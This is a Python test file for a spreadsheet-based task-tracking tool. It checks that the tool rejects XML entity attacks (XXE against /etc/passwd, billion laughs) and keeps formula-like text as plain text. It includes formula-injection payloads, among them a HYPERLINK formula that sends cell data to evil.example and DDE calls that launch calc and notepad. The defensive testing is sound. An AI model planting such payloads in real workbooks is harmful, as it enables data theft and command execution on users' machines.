"""Hostile content: XML entities and DTDs never reach a parser; text from units never becomes a formula;
the upward report carries no macros and no external links; workbook text is never console markup."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest

from duban import schema
from duban.commands.main import main

from bad_inputs import build, cases
from ledgers import D, item, unit_rows

PASSWD = "root:x:0:0"
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")
# What people (or attackers) type that a spreadsheet would take for a formula or a DDE call.
HOSTILE = ['=HYPERLINK("http://evil.example/steal?x="&A1,"点此查看附件")', "=cmd|' /C calc'!A0",
           "+1+cmd|' /C notepad'!A0", "-2+3", "@SUM(1,1)", "=1+1"]


def run(capsys, *argv) -> tuple[int, str]:
    code = main([str(a) for a in argv])
    out = capsys.readouterr()
    return code, out.out + out.err


def formulas(path: Path, titles) -> dict[str, int]:
    """Sheet title -> number of <f> elements in its part."""
    parts = build.sheet_parts(path)
    with zipfile.ZipFile(path) as z:
        return {t: len(FORMULA_ELEMENT.findall(z.read(parts[t]))) for t in titles if t in parts}


def all_text(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())


def rows_of(path: Path, title: str) -> list[list]:
    return cases.rows_of(path, title)


# -- XML: DTDs and entities ------------------------------------------------------------------------------

@pytest.mark.parametrize("case_id", ["billion_laughs_shared_strings", "billion_laughs_sheet", "external_entity_passwd",
                                     "dtd_after_padding", "dtd_in_workbook"])
@pytest.mark.parametrize("command", ["recompute", "validate", "export", "split"])
def test_dtd_refused_before_any_parser(case_id, command, tmp_path, capsys):
    case = next(c for c in cases.CASES if c.id == case_id)
    path = case.build(tmp_path)
    before = path.read_bytes()
    argv = [command, path, "--today", build.TODAY] + (["-o", tmp_path / "out"] if command in ("export", "split")
                                                       else [])
    code, out = run(capsys, *argv)
    assert code == 2 and "DTD" in out and PASSWD not in out and "lollol" not in out, out
    assert path.read_bytes() == before
    assert not (tmp_path / "out").exists()


def test_calamine_does_not_expand_entities_either(tmp_path):
    """Defence in depth: were the guard bypassed, the reader fails instead of expanding or fetching."""
    from python_calamine import CalamineWorkbook
    for case_id in ("external_entity_passwd", "billion_laughs_shared_strings"):
        case = next(c for c in cases.CASES if c.id == case_id)
        folder = tmp_path / case_id
        folder.mkdir()
        path = case.build(folder)
        try:
            wb = CalamineWorkbook.from_path(str(path))
            text = repr([wb.get_sheet_by_name(n).to_python() for n in wb.sheet_names])
        except Exception as exc:  # noqa: BLE001 - an error is the safe outcome
            text = repr(exc)
        assert PASSWD not in text and "lollollol" not in text


def test_answer_file_with_external_entity_is_rejected(tmp_path, capsys):
    """An answer file carrying a DTD is refused by collect; nothing of /etc/passwd reaches the ledger."""
    path = build.ledger(tmp_path)
    assert main(["split", str(path), "--today", build.TODAY, "-o", str(tmp_path / "答卷")]) == 0
    answer = sorted((tmp_path / "答卷").glob("*.xlsx"))[0]
    data = build.members(answer)
    sst = "xl/sharedStrings.xml"
    assert sst in data
    build.rewrite(answer, {sst: lambda b: cases.XXE_DTD + b.split(b"?>", 1)[1]})
    capsys.readouterr()
    before = path.read_bytes()
    code, out = run(capsys, "collect", path, tmp_path / "答卷", "--today", build.TODAY)
    assert "DTD" in out and PASSWD not in out, out
    assert code in (1, 2)
    assert PASSWD not in all_text(path)
    if code == 2:
        assert path.read_bytes() == before


# -- text never becomes a formula -------------------------------------------------------------------------

@pytest.fixture
def hostile_ledger(tmp_path) -> Path:
    """Units, a leader, a category and 本周进展 that look like formulas; one unknown unit quoted in 校验结果."""
    units = unit_rows()
    units[0][0] = HOSTILE[0]            # an office named like a HYPERLINK formula
    units[4][0] = HOSTILE[1]            # a department named like a DDE call
    leaders = [["王建国", "区长", "全面工作"], [HOSTILE[2], "副区长", "城建"]]
    params = build.params_rows()
    for r in params:
        if r == ["其他"]:
            r[0] = HOSTILE[4]
    items = [
        item("1", HOSTILE[0], D(2026, 1, 20), status="已完成", completed=D(2026, 1, 19), grade="好",
             feedback=D(2026, 1, 19), progress=HOSTILE[0], content=HOSTILE[5]),
        item("2", HOSTILE[1], D(2026, 1, 20), feedback=D(2026, 2, 9), progress=HOSTILE[1], leader=HOSTILE[2],
             category=HOSTILE[4]),
        item("3", "东关街道办事处", D(2026, 1, 20), feedback=D(2026, 2, 9), progress=HOSTILE[3]),
        item("4", "=2+2", D(2026, 1, 20), feedback=D(2026, 2, 9)),  # unknown unit: quoted on 校验结果
    ]
    sheets = build.clean_sheets(items=items, units=units, params=params)
    sheets[schema.LEADERS.title] = [schema.LEADERS.headers] + leaders
    return build.write_book(tmp_path / build.NAME, sheets)


COMPUTED = [s.title for s in schema.COMPUTED_SHEETS]


def test_hostile_text_stays_text_in_computed_sheets(hostile_ledger, capsys):
    path = hostile_ledger
    code, out = run(capsys, "recompute", path, "--today", build.TODAY, "--month", build.MONTH)
    assert code == 1 and "Traceback" not in out  # the unknown unit '=2+2' is an error
    assert formulas(path, COMPUTED) == {t: 0 for t in COMPUTED}
    # the names come back as the exact text, from cells written as strings
    values = {str(v) for t in COMPUTED for r in rows_of(path, t) for v in r if v is not None}
    for text in (HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[4]):
        assert text in values, text
    assert any("“=2+2”" in v for v in values)
    parts = build.sheet_parts(path)
    with zipfile.ZipFile(path) as z:
        xml = b"".join(z.read(parts[t]) for t in COMPUTED if t in parts)
    for text in (HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[4]):
        escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()
        cell = rb'<c\b[^>]*\bt="inlineStr"[^>]*>\s*<is>\s*<t[^>]*>' + re.escape(escaped) + rb"</t>"
        assert re.search(cell, xml), text


def test_hostile_answers_stay_text_after_collect(tmp_path, capsys):
    """A unit answers 本周进展 with formula-like text, and with a real formula: 周交办 gets plain text."""
    from openpyxl import load_workbook
    path = build.ledger(tmp_path)
    answers = tmp_path / "答卷"
    assert main(["split", str(path), "--today", build.TODAY, "-o", str(answers)]) == 0
    typed = {}
    for f, (text, as_formula) in zip(sorted(answers.glob("*.xlsx")), [(HOSTILE[0], False), (HOSTILE[1], True)]):
        wb = load_workbook(f)
        ws = wb["答卷"]
        head = next(r for r in range(1, 20) if ws.cell(r, 1).value == "编号")
        col = next(c for c in range(1, 12) if ws.cell(head, c).value == "本周进展")
        ws.cell(head + 1, col).value = text          # openpyxl writes "=..." as a formula
        if not as_formula:
            ws.cell(head + 1, col).data_type = "s"   # typed as text ('=...) by the unit
        wb.save(f)
        typed[ws.cell(head + 1, 1).value] = text
    capsys.readouterr()
    code, out = run(capsys, "collect", path, answers, "--today", build.TODAY)
    assert code in (0, 1) and "Traceback" not in out, out
    items = {r[0]: r for r in rows_of(path, schema.ITEMS.title)[1:]}
    parts = build.sheet_parts(path)
    with zipfile.ZipFile(path) as z:
        ledger_xml = z.read(parts[schema.ITEMS.title])
    assert not FORMULA_ELEMENT.search(ledger_xml)
    for item_id, text in typed.items():
        assert items[item_id][12] == text, items[item_id]
    assert formulas(path, [schema.CHANGE_LOG.title, schema.RUN_LOG.title]) == {schema.CHANGE_LOG.title: 0,
                                                                               schema.RUN_LOG.title: 0}
    log_values = {str(v) for r in rows_of(path, schema.CHANGE_LOG.title) for v in r}
    assert set(typed.values()) <= log_values


# -- the upward report ------------------------------------------------------------------------------------

def test_export_has_no_macros_links_or_formulas(hostile_ledger, tmp_path, capsys):
    from bad_inputs.results import sample_ledger
    decorated = sample_ledger(tmp_path / "带宏台账.xlsm", 300)   # VBA, buttons, xlwings.conf
    outputs = []
    for ledger, extra in ((decorated, ["--month", "2026-10", "--today", "2026-11-27"]),
                          (hostile_ledger, ["--month", build.MONTH, "--today", build.TODAY])):
        out_dir = tmp_path / f"上报-{ledger.stem}"
        code, out = run(capsys, "export", ledger, *extra, "--ledger", "-o", out_dir)
        assert code in (0, 1) and "Traceback" not in out, out
        files = sorted(out_dir.iterdir())
        assert [f.suffix for f in files] == [".xlsx"], files
        outputs.append(files[0])
    for f in outputs:
        with zipfile.ZipFile(f) as z:
            names = z.namelist()
            ct = z.read("[Content_Types].xml").decode()
            rels = "".join(z.read(n).decode() for n in names if n.endswith(".rels"))
            wb = z.read("xl/workbook.xml").decode()
            sheets = [z.read(n) for n in names if n.startswith("xl/worksheets/sheet")]
        assert not [n for n in names if re.search(r"vba|activeX|externalLink|connections|embeddings|ctrlProps",
                                                  n, re.I)], names
        assert "macroEnabled" not in ct and "vbaProject" not in ct
        assert 'TargetMode="External"' not in rels
        assert "[1]" not in wb and "xlwings" not in wb.lower()
        assert all(not FORMULA_ELEMENT.search(x) for x in sheets)
    values = {str(v) for t in ("月考评", "统计", "周交办") for r in rows_of(outputs[1], t) for v in r}
    for text in HOSTILE[:3]:
        assert text in values, text


# -- console markup ----------------------------------------------------------------------------------------

def test_markup_in_workbook_text_is_printed_as_typed(tmp_path, capsys, monkeypatch):
    from duban.commands.common import console
    monkeypatch.setattr(console, "_width", 300)  # no wrapping inside the findings table
    path = build.ledger(tmp_path, extra_items=[item("9", "区住建局", D(2026, 1, 23), leader="[/red][blink]王",
                                                    feedback=D(2026, 2, 9))])
    code, out = run(capsys, "validate", path, "--today", build.TODAY)
    assert code == 1 and "[/red][blink]王" in out and "Traceback" not in out and "程序出错" not in out


def test_markup_in_an_answer_is_collected(tmp_path, capsys):
    """A unit's 本周进展 containing console markup is collected and shown as typed."""
    from test_faults import fill_answers
    path = build.ledger(tmp_path)
    assert main(["split", str(path), "--today", build.TODAY, "-o", str(tmp_path / "答卷")]) == 0
    fill_answers(tmp_path / "答卷", "已完成[/red]整改")
    capsys.readouterr()
    code, out = run(capsys, "collect", path, tmp_path / "答卷", "--today", build.TODAY)
    assert code == 0 and "程序出错" not in out, out
    assert "已完成[/red]整改" in {str(r[12]) for r in rows_of(path, schema.ITEMS.title)}
